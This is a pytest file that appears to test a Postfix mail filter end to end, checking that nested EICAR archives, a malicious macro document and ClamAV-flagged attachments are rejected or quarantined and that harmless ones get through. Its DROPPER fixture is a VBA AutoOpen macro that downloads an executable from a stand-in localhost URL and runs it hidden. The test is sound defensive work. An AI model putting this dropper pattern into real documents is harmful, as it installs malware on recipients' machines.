"""Deep inspection end to end: a real Postfix, a real mailward-milter, archives and documents built here."""

from __future__ import annotations

import pytest

from support.mail import EICAR, message
from support.unpack import aes_zip, ooxml, vba_project, zipped

pytestmark = pytest.mark.postfix

DROPPER = (
    'Sub AutoOpen()\n  URLDownloadToFile 0, "http://127.0.0.1/a.exe", "a.exe", 0, 0\n  Shell "a.exe", vbHide\nEnd Sub\n'
)


def test_eicar_in_zip_in_zip_is_rejected(postfix, milter):
    milter()
    nested = zipped({"docs/inner.zip": zipped({"eicar.com": EICAR})})
    mid, raw = message(attachments=(("invoice.zip", nested, "application/zip"),))
    code, text = postfix.send(raw)
    assert code == 550 and "5.7.1" in text and "eicar" not in text.lower()
    assert postfix.milter_action(mid) == "reject"
    assert postfix.delivered(mid, timeout=0) is None


def test_macro_dropper_is_rejected_and_locked_archive_quarantined(postfix, milter):
    milter()
    docm = ooxml("docm", {"word/vbaProject.bin": vba_project(DROPPER)})
    mid_macro, raw_macro = message(attachments=(("invoice.docm", docm, "application/octet-stream"),))
    locked = aes_zip({"scan.pdf": b"%PDF-1.4\n%%EOF\n"}, "n0t-in-the-body")
    mid_locked, raw_locked = message(attachments=(("scan.zip", locked, "application/zip"),))
    assert postfix.send(raw_macro)[0] == 550  # auto-exec that downloads and runs: malware
    assert postfix.send(raw_locked)[0] == 250  # accepted into the quarantine, not the mailbox
    assert postfix.milter_action(mid_macro) == "reject" and postfix.milter_action(mid_locked) == "discard"
    assert postfix.delivered(mid_macro, timeout=0) is None and postfix.delivered(mid_locked, timeout=0) is None


def test_clamav_signature_rejects_and_keeps_the_sample(postfix, milter, clamd, tmp_path):
    from clamd_server import MARKER
    from mailward.config import load_settings
    from mailward.quarantine import ListFilter, Status, open_store

    milter(f'[clamav]\nsocket = "{clamd.socket}"\n')
    mid, raw = message(attachments=(("report.bin", b"\x00" + MARKER + b"\x00", "application/octet-stream"),))
    code, text = postfix.send(raw)
    assert code == 550 and "5.7.1" in text and "MailwardTest" not in text
    assert postfix.milter_action(mid) == "reject"
    assert postfix.delivered(mid, timeout=0) is None
    with open_store(load_settings(tmp_path / "mailward.toml")) as store:
        [sample] = store.list(ListFilter())
        assert sample.status is Status.REJECTED and mid.encode() in store.read(sample.id)
        assert "clamav:MailwardTest.Marker-1.UNOFFICIAL" in {f.name for f in sample.evidence.findings}


def test_harmless_macro_and_pdf_are_delivered(postfix, milter):
    milter()
    docm = ooxml("docm", {"word/vbaProject.bin": vba_project("Sub Tidy()\n  Selection.Font.Bold = True\nEnd Sub\n")})
    mid, raw = message(
        attachments=(
            ("table.docm", docm, "application/octet-stream"),
            ("notes.zip", zipped({"a.txt": b"minutes"}), "application/zip"),
        )
    )
    assert postfix.send(raw)[0] == 250
    delivered = postfix.delivered(mid)
    assert delivered is not None and delivered["X-Mailward-Verdict"] == "tag"  # a macro alone only tags


def test_clamd_down_quarantines_inbound_never_delivers(postfix, milter, tmp_path):
    from mailward.config import load_settings
    from mailward.quarantine import ListFilter, open_store

    milter(f'[clamav]\nsocket = "unix:{tmp_path / "no-clamd.sock"}"\n')
    mid, raw = message(attachments=(("notes.txt", b"Minutes of the meeting.\n", "text/plain"),))
    assert postfix.send(raw)[0] == 250  # accepted into the quarantine, not the mailbox
    assert postfix.milter_action(mid) == "discard"
    assert postfix.delivered(mid, timeout=0) is None
    with open_store(load_settings(tmp_path / "mailward.toml")) as store:
        [held] = store.list(ListFilter())
        assert "clamav-unavailable" in {f.name for f in held.evidence.findings}
